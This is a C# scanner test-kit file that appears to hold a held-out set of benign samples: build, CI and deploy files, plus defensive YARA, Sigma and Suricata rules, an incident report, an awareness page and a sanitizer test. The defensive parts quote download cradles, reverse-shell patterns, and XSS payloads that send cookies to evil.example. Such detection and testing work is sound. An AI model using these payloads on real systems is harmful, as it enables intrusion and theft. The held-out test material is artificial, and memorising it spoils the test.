namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>Packages and build files.</summary>
public sealed class FilesOfProgrammers : FourthHarmless
{
    public override IEnumerable<(string Name, byte[] Content)> Files()
    {
        yield return ("setup.py", Utf8(""""
"""Builds the C extension when a compiler is there."""
import os
import re
import subprocess
import sys
from setuptools import Extension, find_packages, setup
from setuptools.command.build_ext import build_ext


class OptionalBuildExt(build_ext):
    def run(self):
        try:
            subprocess.check_call(["cmake", "--version"])
            super().run()
        except (OSError, subprocess.CalledProcessError):
            print("cmake not found: building without the fast parser", file=sys.stderr)


with open(os.path.join("fastgrid", "__init__.py")) as f:
    version = re.search(r'__version__ = "(.+)"', f.read()).group(1)
exec(open("fastgrid/_build_flags.py").read())

setup(name="fastgrid", version=version, packages=find_packages(), ext_modules=[Extension("fastgrid._grid", ["src/grid.c"])], cmdclass={"build_ext": OptionalBuildExt})
""""));
        yield return ("fastgrid-1.2.0-py3-none-any.whl", InertFiles.Zip(("fastgrid/__init__.py", Utf8("__version__ = \"1.2.0\"\nfrom .grid import Grid\n")), ("fastgrid/grid.py", Utf8("import base64, pickle, zlib\n\nclass Grid(list):\n    def dumps(self):\n        return base64.b64encode(zlib.compress(pickle.dumps(list(self))))\n\n    @classmethod\n    def loads(cls, text):\n        return cls(pickle.loads(zlib.decompress(base64.b64decode(text))))\n")), ("fastgrid-1.2.0.dist-info/METADATA", Utf8("Metadata-Version: 2.1\nName: fastgrid\nVersion: 1.2.0\n")), ("fastgrid-1.2.0.dist-info/WHEEL", Utf8("Wheel-Version: 1.0\nTag: py3-none-any\n")), ("fastgrid-1.2.0.dist-info/RECORD", Utf8("fastgrid/grid.py,,\n"))));
        yield return ("better-hash-3.0.1.tgz", Tarball.Gzipped(("package/package.json", Utf8("{\"name\":\"better-hash\",\"version\":\"3.0.1\",\"gypfile\":true,\"scripts\":{\"install\":\"prebuild-install || node-gyp rebuild\",\"postinstall\":\"node scripts/check.js\"},\"dependencies\":{\"prebuild-install\":\"^7.1.1\"}}")), ("package/binding.gyp", Utf8("{ 'targets': [{ 'target_name': 'hash', 'sources': ['src/hash.cc'] }] }")), ("package/scripts/check.js", Utf8("try { require('../build/Release/hash.node'); } catch (e) {\n  console.warn('better-hash: native module not built, falling back to JavaScript (' + process.platform + ')');\n}\n"))));
        yield return ("package.json", Utf8("""
{
  "name": "storefront",
  "private": true,
  "scripts": {
    "dev": "vite",
    "build": "tsc && vite build",
    "prepare": "husky",
    "postinstall": "patch-package && node -e \"try{require('fs').copyFileSync('.env.example','.env',1)}catch(e){}\"",
    "deploy": "curl -fsS -X POST -H \"Authorization: Bearer $DEPLOY_TOKEN\" https://deploy.storefront.example/hook"
  },
  "devDependencies": { "husky": "^9.0.0", "patch-package": "^8.0.0", "vite": "^5.0.0" }
}
"""));
        yield return ("Dockerfile", Utf8("""
FROM debian:bookworm-slim AS build
RUN apt-get update && apt-get install -y --no-install-recommends curl ca-certificates gnupg && rm -rf /var/lib/apt/lists/*
RUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash - && apt-get install -y nodejs
COPY . /src
RUN cd /src && npm ci && npm run build
FROM nginx:1.27
COPY --from=build /src/dist /usr/share/nginx/html
RUN echo '*/5 * * * * root /usr/sbin/logrotate /etc/logrotate.conf' > /etc/cron.d/logrotate
HEALTHCHECK CMD curl -f http://localhost/ || exit 1
"""));
        yield return ("docker-compose.yml", Utf8("""
services:
  traefik:
    image: traefik:v3
    ports: ["80:80", "443:443"]
    volumes: ["/var/run/docker.sock:/var/run/docker.sock:ro"]
  node-exporter:
    image: quay.io/prometheus/node-exporter
    pid: host
    network_mode: host
    volumes: ["/:/host:ro,rslave"]
    command: ["--path.rootfs=/host"]
  vpn:
    image: linuxserver/wireguard
    cap_add: [NET_ADMIN, SYS_MODULE]
    privileged: true
"""));
        yield return ("release.yml", Utf8("""
name: Release
on: { push: { tags: ['v*'] } }
permissions: { contents: write, id-token: write }
jobs:
  release:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Import signing key
        run: echo "${{ secrets.GPG_KEY }}" | base64 -d | gpg --batch --import
      - run: curl -sSfL https://raw.githubusercontent.com/anchore/syft/main/install.sh | sh -s -- -b /usr/local/bin
      - name: Publish
        env: { NPM_TOKEN: '${{ secrets.NPM_TOKEN }}' }
        run: |
          echo "//registry.npmjs.org/:_authToken=$NPM_TOKEN" > ~/.npmrc
          npm publish --provenance
      - name: Tell the chat
        run: curl -s -X POST -H 'Content-Type: application/json' -d '{"text":"Released ${{ github.ref_name }}"}' "${{ secrets.CHAT_WEBHOOK }}"
"""));
        yield return ("Jenkinsfile", Utf8("""
pipeline {
  agent { label 'linux' }
  environment { DEPLOY = credentials('deploy-ssh') }
  stages {
    stage('Test') { steps { sh './gradlew test' } }
    stage('Deploy') { when { branch 'main' } steps { sh 'scp -i $DEPLOY build/libs/app.jar deploy@app01:/opt/app/ && ssh -i $DEPLOY deploy@app01 sudo systemctl restart app' } }
  }
  post { failure { mail to: 'team@acme.example', subject: "Failed: ${env.JOB_NAME}", body: "${env.BUILD_URL}" } }
}
"""));
        yield return ("site.yml", Utf8("""
- hosts: web
  become: true
  tasks:
    - name: Deploy keys
      ansible.posix.authorized_key: { user: deploy, key: "{{ lookup('file', 'keys/deploy.pub') }}" }
    - name: Install node exporter
      ansible.builtin.shell: curl -fsSL https://packages.acme.example/node_exporter.tgz | tar xz -C /opt
      args: { creates: /opt/node_exporter }
    - name: Disable SELinux for the legacy app
      ansible.posix.selinux: { state: permissive, policy: targeted }
    - ansible.windows.win_shell: Set-MpPreference -ExclusionPath 'D:\SQLData'
      when: ansible_os_family == 'Windows'
"""));
        yield return ("main.tf", Utf8("""
resource "aws_instance" "web" {
  ami           = data.aws_ami.debian.id
  instance_type = "t3.small"
  user_data = base64encode(<<-EOT
    #!/bin/bash
    curl -s http://169.254.169.254/latest/meta-data/instance-id > /etc/instance-id
    wget -qO- https://get.docker.com | sh
    docker run -d --restart always -p 80:80 registry.acme.example/web:${var.version}
  EOT
  )
}
"""));
        yield return ("Generator.csproj", Utf8("""
<Project Sdk="Microsoft.NET.Sdk">
  <PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup>
  <Target Name="GenerateClient" BeforeTargets="CoreCompile"><Exec Command="powershell -NoProfile -ExecutionPolicy Bypass -File $(ProjectDir)build\generate.ps1 -Out $(IntermediateOutputPath)" Condition="'$(OS)' == 'Windows_NT'" /><Exec Command="bash build/generate.sh $(IntermediateOutputPath)" Condition="'$(OS)' != 'Windows_NT'" /></Target>
</Project>
"""));
        yield return ("tasks.json", Utf8("{\n  \"version\": \"2.0.0\",\n  \"tasks\": [\n    { \"label\": \"watch\", \"type\": \"npm\", \"script\": \"watch\", \"isBackground\": true, \"problemMatcher\": \"$tsc-watch\", \"runOptions\": { \"runOn\": \"folderOpen\" }, \"presentation\": { \"reveal\": \"never\" } },\n    { \"label\": \"db\", \"type\": \"shell\", \"command\": \"docker compose up -d db\" }\n  ]\n}\n"));
        yield return ("build.xsl", Utf8("<?xml version=\"1.0\"?>\n<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:msxsl=\"urn:schemas-microsoft-com:xslt\" xmlns:u=\"urn:user\">\n<msxsl:script language=\"JScript\" implements-prefix=\"u\"><![CDATA[ function today() { var d = new Date(); return d.getFullYear() + '-' + (d.getMonth() + 1) + '-' + d.getDate(); } ]]></msxsl:script>\n<xsl:template match=\"/\"><html><body><h1>Report <xsl:value-of select=\"u:today()\"/></h1><xsl:apply-templates/></body></html></xsl:template>\n</xsl:stylesheet>\n"));
        yield return ("ldap_sync.py", Utf8(""""
#!/usr/bin/env python3
"""Copies people from LDAP to the phone system every hour; notifies the chat when something fails."""
import base64, json, os, socket, subprocess, urllib.request
from ldap3 import ALL, Connection, Server

HOOK = os.environ["CHAT_WEBHOOK"]

def notify(text):
    req = urllib.request.Request(HOOK, data=json.dumps({"content": f"{socket.gethostname()}: {text}"}).encode(), headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10)

def main():
    password = base64.b64decode(open("/etc/ldap_sync/secret").read()).decode()
    with Connection(Server("ldap.acme.example", get_info=ALL), "cn=sync,dc=acme", password, auto_bind=True) as c:
        c.search("dc=acme", "(objectClass=person)", attributes=["cn", "telephoneNumber"])
        for e in c.entries:
            subprocess.run(["asterisk", "-rx", f"database put cidname {e.telephoneNumber} {e.cn}"], check=True)

if __name__ == "__main__":
    try:
        main()
    except Exception as error:
        notify(repr(error))
        raise
""""));
    }
}

/// <summary>Texts of people who defend: rules, reports, tests that quote commands of attackers.</summary>
public sealed class TextsOfDefenders : FourthHarmless
{
    public override IEnumerable<(string Name, byte[] Content)> Files()
    {
        yield return ("suspicious_scripts.yar", Utf8("""
rule Html_Smuggling_Generic
{
    meta:
        author = "blue team"
        description = "Blob that is clicked by itself"
    strings:
        $a = "createObjectURL" ascii
        $b = "msSaveOrOpenBlob" ascii
        $c = "application/octet-stream" ascii nocase
        $d = "atob(" ascii
    condition:
        filesize < 2MB and 3 of them
}

rule Download_Cradle
{
    strings:
        $s1 = "IEX (New-Object Net.WebClient).DownloadString" nocase
        $s2 = "powershell -nop -w hidden -enc" nocase
        $s3 = "certutil -urlcache -split -f" nocase
    condition:
        any of them
}
"""));
        yield return ("proc_creation_win_mshta.yml", Utf8("""
title: Mshta Executing From A Run Dialog
id: 11111111-2222-3333-4444-555555555555
status: test
description: Detects mshta.exe started by explorer with a URL, as seen in ClickFix campaigns
references: ["https://blog.defender-notes.example/clickfix"]
logsource: { category: process_creation, product: windows }
detection:
    selection:
        ParentImage|endswith: '\explorer.exe'
        Image|endswith: '\mshta.exe'
        CommandLine|contains: ['http://', 'https://', 'vbscript:Execute(']
    selection_ps:
        CommandLine|contains|all: ['powershell', '-w hidden', 'iex', 'irm ']
    condition: 1 of selection*
level: high
"""));
        yield return ("incident-2026-07.md", Utf8("""
# Incident 2026-07: stealer on a finance laptop

**Summary.** A colleague opened `Invoice_3391.html`, which saved `REF.iso`. The shortcut inside ran:

```
cmd.exe /c powershell -w hidden -c "iwr hxxps://docs[.]bad-domain[.]example/a.ps1 | iex"
```

| Time (UTC) | Event |
|---|---|
| 08:41 | Mail delivered, SPF pass, DKIM none |
| 08:52 | `schtasks /create /tn "OneDrive Reporting" /tr C:\ProgramData\client.exe /sc onlogon` |
| 09:30 | EDR alert; host isolated |

Indicators: SHA-256 `0000000000000000000000000000000000000000000000000000000000000000`, 192.0.2.55.

## Actions
- Reset the password and revoke the sessions
- Block `.iso` and `.html` attachments at the gateway
- Hunt: `DeviceProcessEvents | where ProcessCommandLine has_all ("powershell","hidden")`
"""));
        yield return ("training_clickfix.html", Utf8("""
<html><head><title>Awareness: ClickFix</title></head><body><h1>How "ClickFix" pages trick people</h1>
<p>The page pretends to be a captcha and asks you to press <kbd>Win</kbd>+<kbd>R</kbd>, then <kbd>Ctrl</kbd>+<kbd>V</kbd> and Enter. What was copied looks like this:</p>
<pre>powershell -w hidden -c "iwr hxxps://evil[.]example/s.txt | iex" # I am not a robot</pre>
<p>No real captcha ever asks you to run a command. Report such pages to <a href="mailto:soc@fabrikam.example">soc@fabrikam.example</a>.</p>
<script>document.querySelectorAll("pre").forEach(p => p.addEventListener("copy", e => e.preventDefault()));</script></body></html>
"""));
        yield return ("Hunting.kql", Utf8("""
// Encoded commands of the last week
DeviceProcessEvents
| where Timestamp > ago(7d)
| where FileName in~ ("powershell.exe", "pwsh.exe") and ProcessCommandLine matches regex @"(?i)\s-e(nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{40,}"
| extend Decoded = base64_decode_tostring(extract(@"\s([A-Za-z0-9+/=]{40,})", 1, ProcessCommandLine))
| where Decoded has_any ("DownloadString", "FromBase64String", "Invoke-Expression", "VirtualAlloc")
| project Timestamp, DeviceName, AccountName, Decoded
"""));
        yield return ("test_sanitizer.py", Utf8("""
import pytest
from app.sanitizer import clean

ATTACKS = [
    "<script>location='https://evil.example/?c='+document.cookie</script>",
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<svg onload=fetch('//evil.example/'+localStorage.token)>",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE users; --",
    "<?php system($_GET['c']); ?>",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
]

@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_active_remains(text):
    out = clean(text)
    assert "<script" not in out and "onerror" not in out and not out.startswith("=")
"""));
        yield return ("local.rules", Utf8("""
alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"LOCAL PowerShell download of script"; flow:established,to_server; http.user_agent; content:"WindowsPowerShell/"; http.uri; content:".ps1"; endswith; sid:1000001; rev:2;)
alert tcp any any -> any 4444 (msg:"LOCAL reverse shell default port"; content:"/bin/sh -i"; sid:1000002; rev:1;)
alert dns any any -> any any (msg:"LOCAL long label, maybe exfiltration"; dns.query; pcre:"/^[a-z0-9+\/]{50,}\./i"; sid:1000003; rev:1;)
"""));
        yield return ("Disable-Macros.ps1", Dos("""
# Hardening: blocks macros from the internet, PowerShell v2 and Office child processes (ASR)
foreach ($app in 'Word', 'Excel', 'PowerPoint') {
    $key = "HKCU:\Software\Policies\Microsoft\Office\16.0\$app\Security"
    New-Item $key -Force | Out-Null
    Set-ItemProperty $key -Name blockcontentexecutionfrominternet -Value 1 -Type DWord
    Set-ItemProperty $key -Name VBAWarnings -Value 4 -Type DWord
}
Disable-WindowsOptionalFeature -Online -FeatureName MicrosoftWindowsPowerShellV2Root -NoRestart
Add-MpPreference -AttackSurfaceReductionRules_Ids d4f940ab-401b-4efc-aadc-ad5f3c50688a -AttackSurfaceReductionRules_Actions Enabled
Set-MpPreference -DisableRealtimeMonitoring $false
Write-Host 'mshta.exe, wscript.exe and cscript.exe are blocked by AppLocker; see policy.xml'
"""));
    }
}
